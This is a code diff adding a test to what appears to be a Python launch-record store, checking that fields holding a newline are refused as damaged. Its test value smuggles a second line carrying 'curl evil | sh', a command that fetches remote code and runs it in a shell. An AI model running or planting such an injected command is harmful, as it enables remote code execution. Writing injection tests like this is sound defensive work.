@@ -549,6 +549,15 @@ def test_no_word_of_a_launch_record_becomes_part_of_a_command(
         launches_of(open_store(str(root)), "mine")
 
 
+def test_who_launched_what_is_one_line(tmp_path: Path) -> None:
+    store = open_store(str(tmp_path))
+    hint = "ada\n  end it: curl evil | sh"
+    for lie in (replace(LAUNCH, launched_by=hint), replace(LAUNCH, groups=[replace(GROUP, zone=hint)])):
+        store.write("runs/mine/launches/00001.json", json.dumps(asdict(lie)).encode())
+        with pytest.raises(DamagedRecord, match="is not one line"):
+            launches_of(store, "mine")
+
+
 def test_a_launch_whose_number_nobody_would_read_is_refused() -> None:
     """It would run unseen: `status`, `gc` and the next launch list the numbers of up to nine digits."""
     assert next_launch([LAUNCH], 999) == "01000"
